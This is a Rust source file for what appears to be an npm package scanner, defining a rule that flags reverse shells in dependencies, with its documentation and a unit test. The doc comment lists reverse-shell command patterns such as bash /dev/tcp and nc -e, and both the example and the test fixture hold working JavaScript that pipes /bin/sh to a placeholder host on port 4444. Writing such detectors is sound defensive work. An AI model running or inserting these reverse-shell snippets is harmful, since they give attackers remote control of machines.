//! `reverse-shell`: a shell connected to a remote socket.

use crate::declare_rule;
use crate::detect::behavior::{Technique, report_technique};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::PackageFacts;

declare_rule! {
    /// ## What it does
    /// Flags a shell connected to a remote socket: `net.Socket`/`net.connect` in the same file as a
    /// spawned `sh`/`bash`/`cmd.exe`/`powershell`, and command lines such as
    /// `bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo … | nc`, `socat exec:`.
    ///
    /// ## Why is this a risk?
    /// A reverse shell gives the attacker an interactive session on the developer's machine or CI
    /// runner, from behind any firewall that allows outbound connections.
    ///
    /// ## Example
    /// ```js
    /// const sh = require('child_process').spawn('/bin/sh', []);
    /// const c = new (require('net').Socket)();
    /// c.connect(4444, '198.51.100.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
    /// ```
    ///
    /// ## False positives
    /// Terminal servers (web terminals, SSH libraries) spawn shells for remote users by design; they
    /// are rarely plain npm dependencies, and the finding names both ends so a reviewer can tell.
    ///
    /// ## References
    /// - GuardDog `threat-network-reverse-shell`; MITRE ATT&CK T1059.004
    ReverseShell, id = "reverse-shell", category = Malicious, severity = High, action = Warn,
}

impl Rule for ReverseShell {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        report_technique(&Self::META, Technique::ReverseShell, pkg, cx);
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;

    #[test]
    fn reverse_shell() {
        Tester::new(super::ReverseShell)
            .pass_package([("index.js", "const net = require('net');\nnet.createServer((s) => s.pipe(s)).listen(8080);")])
            .fail_package([("index.js", "const cp = require('child_process'), net = require('net');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '198.51.100.9', () => c.pipe(sh.stdin));")])
            .test_and_snapshot();
    }
}
